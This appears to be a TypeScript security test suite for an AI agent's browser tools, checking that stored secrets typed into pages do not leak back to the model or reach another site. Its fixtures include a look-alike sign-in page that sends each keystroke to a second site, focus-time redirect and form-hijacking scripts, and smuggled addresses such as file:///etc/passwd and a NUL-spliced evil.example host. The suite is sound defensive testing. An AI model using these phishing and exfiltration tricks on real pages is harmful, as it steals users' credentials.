import type { Rig } from './rig.ts';
import { encodedIn, keepSecret, Model, TWIN, VALUE } from './secrets-kit.ts';
import type { Part, Try } from './try.ts';
import { textOf, at } from './wire.ts';

/** Sites that show typed text, or want the secret of another site. */
export async function secretsAndSites(rig: Rig): Promise<Part> {
  await keepSecret(rig.ana, 'bank', [rig.site.url]);
  await keepSecret(rig.ana, 'twin', [rig.site.url], TWIN);
  let count = 0;
  const made: Model[] = [];
  const model = () => {
    const one = new Model(rig, `sites-${(count += 1)}`);
    made.push(one);
    return one;
  };
  return {
    name: 'secrets, and sites that show or want them',
    tries: [...mirrors(rig, model), ...pictures(rig, model), ...lookAlikes(rig, model), ...names(rig)].map(
      ({ name, run }) => ({
        name,
        run: () => run().finally(() => Promise.all(made.splice(0).map((one) => one.ask('browser_close')))),
      }),
    ),
  };
}

type Make = () => Model;

/** Ways in which a page copies typed text: a script with `v`. */
const MIRRORS: Record<string, string> = {
  title: 'document.title = v',
  'parts of a line': `out.innerHTML = '<span>' + v.slice(0, 5) + '</span><b>' + v.slice(5, 9) + '</b>' + v.slice(9)`,
  'a line with a break opportunity': `out.innerHTML = v.slice(0, 7) + '<wbr>' + v.slice(7)`,
  'a line with a comment in it': `out.innerHTML = v.slice(0, 7) + '<!-- -->' + v.slice(7)`,
  'a link': `out.innerHTML = '<a href="/x?' + v + '">' + v + '</a>'`,
  'parts of a link': `out.innerHTML = '<a href="/x">' + v.slice(0, 7) + '<i>' + v.slice(7) + '</i></a>'`,
  'cells of a table': `out.innerHTML = '<table><tr><th>a<th>b<tr><td>' + v + '<td>' + v + '</table>'`,
  'a label': `out.setAttribute('aria-label', v); out.setAttribute('role', 'img')`,
  'a placeholder': `out.innerHTML = '<input placeholder="' + v + '">'`,
  'another field': `out.innerHTML = '<input value="' + v + '"><textarea>' + v + '</textarea>'`,
  options: `out.innerHTML = '<select><option>' + v + '<option selected>' + v + '</select>'`,
  'a picture that is not there': `out.innerHTML = '<img src="/none.png" alt="' + v + '">'`,
  'a shadow tree': `out.attachShadow({ mode: 'open' }).innerHTML = '<p>' + v`,
  'a closed shadow tree': `out.attachShadow({ mode: 'closed' }).innerHTML = '<p>' + v`,
  'a style': `document.head.insertAdjacentHTML('beforeend', '<style>#out::before { content: "' + v + '" }</style>')`,
  'data for search engines': `document.head.insertAdjacentHTML('beforeend', '<script type="application/ld+json">{"@type":"Article","headline":"' + v + '","author":"' + v + '"}</scr' + 'ipt><meta property="og:title" content="' + v + '">')`,
  'hash, cookie, storage': `location.hash = v; document.cookie = 'v=' + v; localStorage.v = v; sessionStorage.v = v`,
  console: `console.log(v, { [v]: v }); console.error(new Error(v)); console.table([{ [v]: 1 }])`,
  'an error': `setTimeout(() => { throw new Error(v) })`,
  'a dialog': `if (v.length > 9 && !self.told) { self.told = 1; prompt(v, v) }`,
  requests: `fetch('/heard?' + v, { method: 'POST', body: JSON.stringify({ [v]: v }), headers: { 'x-it': v } }); new Image().src = '/heard/' + v`,
  'a request of bytes': `fetch('/heard', { method: 'POST', body: new Blob([new Uint8Array([0, 255]), v]) })`,
  'a basic sign-in': `fetch('/heard', { headers: { authorization: 'Basic ' + btoa('me:' + v), 'x-plain': btoa(v) } }); out.textContent = btoa('me:' + v)`,
  'bytes in base64': `out.textContent = btoa(v) + ' ' + btoa('x' + v) + ' ' + btoa('xy' + v)`,
  hex: `out.textContent = [...v].map((c) => c.charCodeAt(0).toString(16)).join('')`,
  'escapes of addresses': `out.textContent = [...v].map((c) => '%' + c.charCodeAt(0).toString(16)).join('')`,
  'escapes of scripts': `out.textContent = [...v].map((c) => '\\\\x' + c.charCodeAt(0).toString(16)).join('')`,
  'escapes of HTML': `out.textContent = [...v].map((c) => '&#' + c.charCodeAt(0) + ';').join('')`,
  'dashes between': `out.textContent = v.match(/.{4}/g)?.join('-')`,
  'dots between': `out.textContent = v.match(/.{4}/g)?.join('.')`,
  capitals: `out.textContent = v.toUpperCase()`,
  'wide letters': `out.textContent = [...v].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('')`,
  'a download': `if (v.length > 9) { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = v + '.txt'; a.click() }`,
  'a frame': `out.innerHTML = '<iframe srcdoc="<title>' + v + '</title>' + v + '"></iframe>'`,
  'a frame of a blob': `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([v], { type: 'text/html' })); out.append(f)`,
  'a frame of another site': `const f = document.createElement('iframe'); f.src = OTHER + '/frame#' + v; out.append(f)`,
  'a header below': `out.innerHTML = '<h1>' + v.slice(0, 4) + '<br>' + v.slice(4) + '</h1>'`,
  'the history': `history.pushState(null, '', '/p/' + v)`,
  'a message to another tab': `new BroadcastChannel('x').postMessage(v); localStorage.v = v`,
};

function mirrors(rig: Rig, make: Make): Try[] {
  const { site, other } = rig;
  other.page(
    '/frame',
    `<!doctype html><title>f</title><p id="p"></p><script>p.textContent = document.title = location.hash.slice(1)</script>`,
  );
  site.page(
    '/listens',
    `<!doctype html><title>b</title><p id="p"></p><input id="q"><script>
    new BroadcastChannel('x').onmessage = ({ data }) => { p.textContent = data; q.value = data; q.title = data; document.title = data }</script>`,
  );
  site.routes['/heard'] = (_request, response) => void response.writeHead(200).end('ok');
  return Object.entries(MIRRORS).map(([name, script], index) => ({
    name: `shown as ${name}`,
    run: async () => {
      const body = `<!doctype html><title>m</title><input id="user"><div id="out"></div><script>const OTHER = ${JSON.stringify(other.url)};
        user.addEventListener('input', () => { const v = user.value; ${script} })</script>`;
      const model = make();
      const beside = name.includes('another tab');
      if (beside) await model.go(`${site.url}/listens`);
      await model.must('browser_navigate', { url: site.page(`/mirror-${index}`, body), new_tab: beside });
      const tab = beside ? { tab: 't2' } : {};
      await model.must('browser_fill', { selectors: ['#user'], values: ['secret:bank'], ...tab });
      await model.ask('browser_wait', { text: 'never', timeout_ms: 300, ...tab });
      await model.lookAround();
      const log = await model.ask('browser_log', { kind: 'requests', filter: 'heard' });
      for (const id of textOf(at(log.structured, 'log')).match(/\b[rR]\d+\b/g) ?? []) {
        await model.ask('browser_log', { kind: 'request', id });
      }
      if (beside) {
        await model.ask('browser_screenshot', { text: true });
        await model.ask('browser_evaluate', { script: '[...q.value].reverse().join("")' });
      }
      return model.knows() ?? encodedIn(model.told);
    },
  }));
}

/**
 * Places where a page shows the text; a picture must look the same for any text. Text drawn by a style sheet or a
 * closed shadow tree is not covered (docs/security.md).
 */
const SHOWN: Record<string, string> = {
  'in a line': `out.textContent = v`,
  'in parts of a line': `out.innerHTML = v.slice(0, 5) + '<b>' + v.slice(5) + '</b>'`,
  'in a field': `out.innerHTML = '<input size="40" value="' + v + '">'`,
  'in a placeholder': `out.innerHTML = '<input size="40" placeholder="' + v + '">'`,
  'on a button': `out.innerHTML = '<input type="button" value="' + v + '">'`,
  'in a list': `out.innerHTML = '<select><option>' + v + '</select>'`,
  'in place of a picture': `out.innerHTML = '<img src="/none.png" width="400" height="40" alt="' + v + '">'`,
  'in an area': `out.innerHTML = '<textarea cols="40">' + v + '</textarea>'`,
  'in a drawing of text': `out.innerHTML = '<svg width="600" height="40"><text y="30">' + v + '</text></svg>'`,
  'in a frame': `out.innerHTML = '<iframe srcdoc="<style>*{font:20px monospace}</style>' + v + '"></iframe>'`,
};

function pictures({ site }: Rig, make: Make): Try[] {
  return Object.entries(SHOWN).map(([name, script], index) => ({
    name: `a picture with it ${name}`,
    run: async () => {
      site.page(
        `/shown-${index}`,
        `<!doctype html><title>s</title><style>*{font:20px monospace}</style><form action="/shows-${index}"><input id="user" name="v"></form>`,
      );
      site.page(
        `/shows-${index}`,
        `<!doctype html><title>s</title><style>*{font:20px monospace;caret-color:transparent}</style><div id="out"></div><script>const v = new URLSearchParams(location.search).get('v'); ${script}</script>`,
      );
      const taken: string[] = [];
      for (const secret of ['secret:bank', 'secret:twin']) {
        const model = make();
        await model.go(`${site.url}/shown-${index}`);
        await model.must('browser_type', { selector: '#user', text: secret, submit: true });
        await model.ask('browser_wait', { text: 'never', timeout_ms: 700 });
        const { body } = await model.ask('browser_screenshot');
        taken.push(/"data":"([^"]+)"/.exec(body)?.[1] ?? body.slice(0, 200));
        await model.ask('browser_close');
      }
      return taken[0] === taken[1] ? null : 'two secrets give two pictures';
    },
  }));
}

/** Changes of the page or the field when the field gets the focus. `OTHER` is the other site. */
const TRICKS: Record<string, string> = {
  'goes to another site at focus': `user.onfocus = () => { location = OTHER + '/wants' }`,
  'goes to another site at keydown': `user.onkeydown = () => { location = OTHER + '/wants' }`,
  'goes to another site by replace at focus': `user.onfocus = () => { location.replace(OTHER + '/wants') }`,
  'submits elsewhere at focus': `user.onfocus = () => { const f = document.createElement('form'); f.action = OTHER + '/wants'; document.body.append(f); f.submit() }`,
  'clicks a link elsewhere at focus': `user.onfocus = () => { const a = document.createElement('a'); a.href = OTHER + '/wants'; document.body.append(a); a.click() }`,
  'moves the field into a frame of another site': `user.onfocus = () => { const f = document.createElement('iframe'); f.src = OTHER + '/wants'; document.body.append(f); f.focus() }`,
  'moves the field into a blank frame': `user.onfocus = () => { const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.body.append(user); user.focus() }`,
  'moves the field into a sandboxed frame': `user.onfocus = () => { const f = document.createElement('iframe'); f.sandbox = 'allow-same-origin'; document.body.append(f); f.contentDocument.body.append(user) }`,
  'writes its document anew': `user.onfocus = () => { document.open(); document.write('<input id=user autofocus>'); document.close() }`,
  'sends its form elsewhere at focus': `user.onfocus = () => { form.action = OTHER + '/wants' }`,
  'sends its button elsewhere at focus': `user.onfocus = () => { go.formAction = OTHER + '/wants' }`,
  'ties the field to a form elsewhere': `document.body.insertAdjacentHTML('beforeend', '<form id="away" action="' + OTHER + '/wants"></form>'); user.onfocus = () => user.setAttribute('form', 'away')`,
  'sets another base': `user.onfocus = () => { form.removeAttribute('action'); form.setAttribute('action', 'wants'); document.head.insertAdjacentHTML('beforeend', '<base href="' + OTHER + '/">') }`,
  'a button outside of its form': `document.body.insertAdjacentHTML('beforeend', '<button form="form" formaction="' + OTHER + '/wants">')`,
  'a field of the form named action': `form.insertAdjacentHTML('beforeend', '<input name="action"><input name="elements"><input name="form">'); form.setAttribute('action', OTHER + '/wants')`,
};

function lookAlikes(rig: Rig, make: Make): Try[] {
  const { site, other } = rig;
  const wants = `<!doctype html><title>Sign in</title><form><input id="user" autofocus><input id="pass" type="password"></form><script>
    addEventListener('input', (e) => fetch('/got?' + encodeURIComponent(e.target.value)))</script>`;
  const got: string[] = [];
  other.page('/wants', wants);
  other.routes['/got'] = (request, response) => {
    got.push(request.url ?? '');
    response.writeHead(200).end();
  };
  const nothingGot = () => {
    const all = got.splice(0).join(' ');
    return all === '' ? null : `the other site got ${all}`;
  };
  const tricks = Object.entries(TRICKS).map(([name, script], index): Try => ({
    name: `a page that ${name}`,
    run: async () => {
      const url = site.page(
        `/trick-${index}`,
        `<!doctype html><title>t</title><form id="form"><input id="user" name="user"><button id="go">Go</button></form><script>const OTHER = ${JSON.stringify(other.url)}; ${script}</script>`,
      );
      for (const way of ['fill', 'type', 'slowly']) {
        const model = make();
        const before = other.requests.length;
        await model.go(url);
        if (way === 'fill') await model.fill('#user');
        else await model.ask('browser_type', { selector: '#user', text: 'secret:bank', slowly: way === 'slowly' });
        await model.ask('browser_type', { key: 'Enter' });
        await model.ask('browser_click', { selector: '#go' });
        await model.lookAround();
        await model.ask('browser_close');
        const bad = nothingGot() ?? model.knows();
        const asked = other.requests.slice(before).find(({ path }) => path.includes(VALUE.slice(0, 5)))?.path;
        if (bad !== null || asked !== undefined) return `${way}: ${bad ?? asked}`;
      }
      return null;
    },
  }));
  const refuses = async (model: Model, selector = '#user', tab?: string) => {
    const args = { selectors: [selector], values: ['secret:bank'], ...(tab === undefined ? {} : { tab }) };
    const answer = await model.ask('browser_fill', args);
    return answer.text.includes('Error secret_refused') ? nothingGot() : `not refused: ${answer.text.slice(0, 150)}`;
  };
  const { port } = new URL(site.url);
  return [
    ...tricks,
    {
      name: 'a pop-up of another site with the same looks',
      run: async () => {
        const model = make();
        await model.go(
          site.page('/pops', `<button id="b" onclick="window.open('${other.url}/wants')">Sign in</button>`),
        );
        await model.ask('browser_click', { selector: '#b' });
        return refuses(model, '#user', 't2');
      },
    },
    {
      name: 'an opener that goes elsewhere',
      run: async () => {
        const model = make();
        await model.go(
          other.page(
            '/opens',
            `<button id="b" onclick="w = window.open('${site.url}/plain')">Sign in</button><script>addEventListener('blur', () => setTimeout(() => { w.location = '${other.url}/wants' }, 300))</script>`,
          ),
        );
        site.page('/plain', '<!doctype html><title>p</title><input id="user">');
        await model.ask('browser_click', { selector: '#b' });
        await model.ask('browser_type', { selector: '#user', text: 'secret:bank', slowly: true, tab: 't2' });
        await model.ask('browser_wait', { text: 'never', timeout_ms: 500 });
        return nothingGot() ?? model.knows();
      },
    },
    {
      name: 'another site that frames this one',
      run: async () => {
        const model = make();
        site.page('/plain', '<!doctype html><title>p</title><input id="user">');
        await model.go(other.page('/frames', `<iframe src="${site.url}/plain"></iframe>`));
        return refuses(model);
      },
    },
    ...[
      ['another port', other.url],
      ['a name for this machine', `http://localhost:${port}`],
      ['user and password before it', `http://${new URL(site.url).host}@${other.host}`],
    ].map(([name, url]): Try => ({
      name: `an address with ${name}`,
      run: async () => {
        const model = make();
        const opened = await model.ask('browser_navigate', { url: `${url}/wants` });
        return opened.isRefused ? null : refuses(model);
      },
    })),
    ...['data:text/html,<input id=user>', 'about:blank', 'javascript:1', 'blob:null/1'].map((url): Try => ({
      name: `the address ${url.slice(0, 12)}`,
      run: async () => {
        const model = make();
        const opened = await model.ask('browser_navigate', { url });
        return opened.isRefused ? null : refuses(model);
      },
    })),
  ];
}

/** Sites that no user means, and names that are invalid. */
function names({ ana }: Rig): Try[] {
  const refused = async (site: string) => ((await keepSecret(ana, 'odd', [site])) === 400 ? null : 'it is taken');
  return [
    '*.example.com',
    'https://user:pass@bank.example',
    'http://bank.example',
    'com',
    'https://',
    'javascript:alert(1)',
    'file:///etc/passwd',
    'data:text/html,x',
    'blob:https://bank.example/1',
    'https://bank.example\u0000.evil.example',
    'http://127.0.0.1:1',
    'https://co.uk:99999',
  ].map((site) => ({ name: `a secret for the site ${JSON.stringify(site)}`, run: () => refused(site) }));
}
